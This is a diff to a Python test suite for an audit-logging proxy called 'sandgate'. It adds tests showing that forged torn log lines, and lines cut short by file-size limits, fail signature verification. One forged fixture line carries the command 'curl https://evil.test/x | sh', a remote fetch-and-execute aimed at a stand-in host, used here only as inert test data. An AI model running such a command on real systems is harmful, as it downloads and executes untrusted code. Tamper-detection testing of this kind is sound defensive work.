@@ -34,6 +34,10 @@ proxy signs, `sandgate audit key` makes and rotates keys, and
   start are recorded (log.resume, anchor_seq 0) and fail verify --key; a
   torn-looking line with its newline after a close fails at once with the
   anchor and is recorded by the next start.
+- Issue 20 round (T16, atk20r19): a controller line cut short at all
+  but its newline is not a line lost while whole in the log; a torn line
+  forged before a log.resume or a log.outage fails verify --key (each
+  counts the torn lines before it, "torn").
 - Twelfth round (T12): a writer killed (SANDGATE_TEST_CRASH) between a
   line it adds after its anchored close and the anchor naming its next
   checkpoint (a start's open, a key hand-over, a controller's record) or
@@ -50,6 +54,7 @@ import hashlib
 import json
 import os
 import re
+import resource
 import shutil
 import signal
 import stat
@@ -1763,6 +1768,158 @@ class T15Round20b(unittest.TestCase):
         r = self.verify(p.log_dir, key, pub)
         self.assertEqual(r.returncode, 1, r.stdout + r.stderr)
         self.assertIn("after its close at seq %d" % close, r.stdout)
+
+
+TORN19 = (b'{"ts":"2026-12-03T14:10:30.000000Z","seq":99000,"event":"run.exec",'
+          b'"run":"run_evil0","command":"curl https://evil.test/x | sh"')
+
+
+def torn_put_before(path, at, n):
+    """n forged torn lines (each with its newline) put in before line at
+    of the log at path, as whoever can write the file can."""
+    lines = read_lines(path)
+    write_lines(path, lines[:at] + [TORN19] * n + lines[at:])
+
+
+class FsizeProxy(proxylib.Proxy):
+    """A proxy that ignores SIGXFSZ, so that a file size limit set on it
+    (prlimit) is a short write, as on a full volume (subprocess puts
+    SIGXFSZ back to its default before exec)."""
+
+    def argv(self):
+        return [sys.executable, "-c", "import os, signal, sys; "
+                "signal.signal(signal.SIGXFSZ, signal.SIG_IGN); "
+                "os.execv(sys.argv[1], sys.argv[1:])"] + super().argv()
+
+
+class T16Round19(unittest.TestCase):
+    """Round of issue 20 (atk20r19): short writes and the torn lines a
+    log.outage or log.resume may follow."""
+
+    def verify(self, logs, key, pub):
+        return sandgate("audit", "verify", "--log-dir", logs, "--key", pub,
+                        "--anchor", key + ".anchor")
+
+    def one_torn_line_fails(self, p, key, pub, event):
+        """p's log holds one line of event and verifies; one torn line put
+        in before it fails; the line counts none ("torn":0). Returns it."""
+        lines = read_lines(p.log_path)
+        at = [i for i, x in enumerate(lines)
+              if b'"event":"%s"' % event.encode() in x]
+        self.assertEqual(len(at), 1, lines[-5:])
+        r = self.verify(p.log_dir, key, pub)
+        self.assertEqual(r.returncode, 0, r.stdout + r.stderr)
+        torn_put_before(p.log_path, at[0], 1)
+        r = self.verify(p.log_dir, key, pub)
+        self.assertEqual(r.returncode, 1, r.stdout + r.stderr)
+        self.assertIn("1 torn line(s) (interrupted writes) before the %s"
+                      % event, r.stdout)
+        line = json.loads(lines[at[0]])
+        self.assertEqual(line.get("torn"), 0, line)
+        return line
+
+    def test_f1_controller_line_cut_before_its_newline(self):
+        """F1: a controller writer (audit key rotate on runs.jsonl) whose
+        write of its first line, or of its second, is cut short (its file
+        size limit) at all of the line but its newline, then at 20 bytes
+        into it; the next writer runs whole, and verify --key passes the
+        untouched log (before: 'seq N follows seq N' or 'follow the
+        writer's close' at all but the newline)."""
+        d = tempfile.mkdtemp(prefix="r19f1-", dir=W["dir"])
+
+        def env_of(at):
+            return proxylib.clean_env({
+                "SANDGATE_STATE": os.path.join(at, "state"),
+                "SANDGATE_LOG_DIR": os.path.join(at, "logs"),
+                "SANDGATE_RECORD_DIR": os.path.join(at, "records")})
+
+        def run(at, *args, limit=None):
+            pre = None
+            if limit is not None:
+                def pre():
+                    signal.signal(signal.SIGXFSZ, signal.SIG_IGN)
+                    resource.setrlimit(resource.RLIMIT_FSIZE,
+                                       (limit, resource.RLIM_INFINITY))
+            return subprocess.run([SANDGATE] + list(args), env=env_of(at),
+                                  capture_output=True, text=True,
+                                  timeout=60, preexec_fn=pre,
+                                  restore_signals=limit is None)
+        base = os.path.join(d, "base")
+        r = run(base, "audit", "key", "create", "--file", "runs.jsonl")
+        self.assertEqual(r.returncode, 0, r.stdout + r.stderr)
+        r = run(base, "audit", "key", "rotate", "--file", "runs.jsonl")
+        self.assertEqual(r.returncode, 0, r.stdout + r.stderr)
+        runs = os.path.join("records", "runs.jsonl")
+        size = os.path.getsize(os.path.join(base, runs))
+        trial = os.path.join(d, "trial")
+        shutil.copytree(base, trial)
+        self.assertEqual(run(trial, "audit", "key", "rotate", "--file",
+                             "runs.jsonl").returncode, 0)
+        with open(os.path.join(trial, runs), "rb") as f:
+            f.seek(size)
+            added = f.read().split(b"\n")
+        ends = [len(added[0]), len(added[0]) + 1 + len(added[1]), 20]
+        for k in ends:
+            at = os.path.join(d, "k%d" % k)
+            shutil.copytree(base, at)
+            run(at, "audit", "key", "rotate", "--file", "runs.jsonl",
+                limit=size + k)
+            r = run(at, "audit", "key", "rotate", "--file", "runs.jsonl")
+            self.assertEqual(r.returncode, 0, r.stdout + r.stderr)
+            r = run(at, "audit", "verify", "--file", "runs.jsonl", "--key",
+                    os.path.join(at, "state", "keys", "runs.key.pub"))
+            self.assertEqual(r.returncode, 0, "cut at %d: %s" % (
+                k, r.stdout + r.stderr))
+
+    def test_f4_torn_lines_before_a_resume(self):
+        """F4: a proxy killed (SIGKILL) and started again writes a
+        log.resume that counts the torn lines it found at the end
+        ("torn":0 here); one forged torn line put in before it fails
+        verify --key (before: any number passed)."""
+        key, pub = make_key("r19f4")
+        p = start_proxy("r19f4", key)
+        try:
+            flood(p.port, 5, "r19f4a", threads=1)
+        finally:
+            p.kill()
+        p.stop()
+        q = start_proxy("r19f4-again", key, log_dir=p.log_dir)
+        flood(q.port, 2, "r19f4b", threads=1)
+        stop_proxy(q)
+        self.one_torn_line_fails(p, key, pub, "log.resume")
+
+    def test_f5_torn_lines_before_an_outage(self):
+        """F5, F1: the proxy's log file capped at 20 bytes past its size
+        (a short write mid-line, as on a full volume) while requests are
+        blocked, then uncapped: the part written is taken back, so no torn
+        line is left and the log.outage counts none ("torn":0), and
+        verify --key passes; torn lines put in before the outage fail
+        (before: as many as it counted lost passed)."""
+        key, pub = make_key("r19f5")
+        p = FsizeProxy(W["dir"], W["up"], name="r19f5", extra_args=[
+            "--checkpoint-key", key, "--checkpoint-every", str(EVERY),
+            "--checkpoint-interval", str(INTERVAL)] +
+            proxylib.full_lines_args()).start()
+        try:
+            flood(p.port, 3, "r19f5a", threads=1)
+            size = os.path.getsize(p.log_path)
+            resource.prlimit(p.pid, resource.RLIMIT_FSIZE,
+                             (size + 20, resource.RLIM_INFINITY))
+            try:
+                flood(p.port, 3, "r19f5b", threads=1)
+            except Exception:
+                pass        # refused: the log is unavailable
+            capped = os.path.getsize(p.log_path)
+            resource.prlimit(p.pid, resource.RLIMIT_FSIZE,
+                             (resource.RLIM_INFINITY, resource.RLIM_INFINITY))
+            flood(p.port, 2, "r19f5c", threads=1)
+            stop_proxy(p)
+        finally:
+            p.kill()
+        torn = [x for x in read_lines(p.log_path) if not x.endswith(b"}")]
+        outage = self.one_torn_line_fails(p, key, pub, "log.outage")
+        self.assertGreaterEqual(outage["lost"], 1, outage)
+        self.assertEqual((capped, torn), (size, []))
 
 
 if __name__ == "__main__":
